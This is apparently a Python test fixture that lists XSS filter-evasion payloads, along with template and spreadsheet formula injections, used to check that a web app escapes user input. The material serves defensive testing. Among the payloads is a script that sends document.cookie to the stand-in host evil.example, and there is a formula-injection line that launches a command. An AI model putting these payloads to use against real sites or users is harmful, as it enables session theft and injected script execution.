"""Hostile text: XSS payloads planted in every field that reaches a page, an export or the admin.

Drawn from the OWASP XSS filter-evasion cheat sheet and the usual Markdown
tricks. Every payload that could act would open a dialog (``alert``), set
``window.__kb_xss`` or load something from ``evil.example``: the browser test
watches for all three, the HTML test for the markup that would do them.
"""

EVIL = "evil.example"

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>window.__kb_xss=1</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__kb_xss=1>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onpointerover=alert(1)>hover me</x>",
    '<a href="#" onclick="alert(1)">click</a>',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    # javascript: and data: URLs, plain and in Markdown
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](https://evil.example/pixel.png)",
    "![pic](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    "data:text/html,<script>alert(1)</script>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # frames, objects, embedding, base, meta
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/bg.png)">x</div>',
    '<form action="https://evil.example/"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    "<isindex action=javascript:alert(1) type=image>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # entities, encodings, broken markup
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<b <script>alert(1)//",
    '<a href="',
    "<plaintext>",
    "]]><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    # template and formula injection ride along
    "{{ 7|add:7 }} {% debug %} ${alert(1)}",
    '=HYPERLINK("https://evil.example/","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
